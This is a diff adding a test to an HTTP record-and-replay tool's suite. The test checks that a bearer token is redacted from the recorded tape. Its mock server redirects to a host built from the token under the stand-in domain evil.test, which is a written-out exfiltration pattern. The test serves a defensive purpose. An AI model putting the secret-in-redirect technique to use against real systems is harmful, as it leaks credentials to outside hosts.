@@ -45,6 +45,18 @@ test("what was recorded plays back the same without network and without secrets"
   expect(server.requests).toHaveLength(5);
 });
 
+test("a secret that a server works into its redirect does not get onto the tape", async () => {
+  const { opened, url } = await withServer(({ headers }, response) =>
+    response.writeHead(302, { location: `https://${headers.authorization?.slice(7)}.evil.test/` }).end(),
+  );
+  await opened.vault.secrets.set("token", "recorded-nowhere");
+  const file = join(opened.home, "tape.json");
+  await ask(opened.open(credential({ type: "bearer" }), { tape: recordTo(file) }), `${url}/a`);
+  const text = await readFile(file, "utf8");
+  expect(text).toContain("a redirect to [secret].evil.test");
+  expect(text).not.toContain("recorded-nowhere");
+});
+
 test("a replay is held to the policy, but not to the rate limit", async () => {
   const opened = await trackedBrokerage();
   const file = join(opened.home, "tape.json");
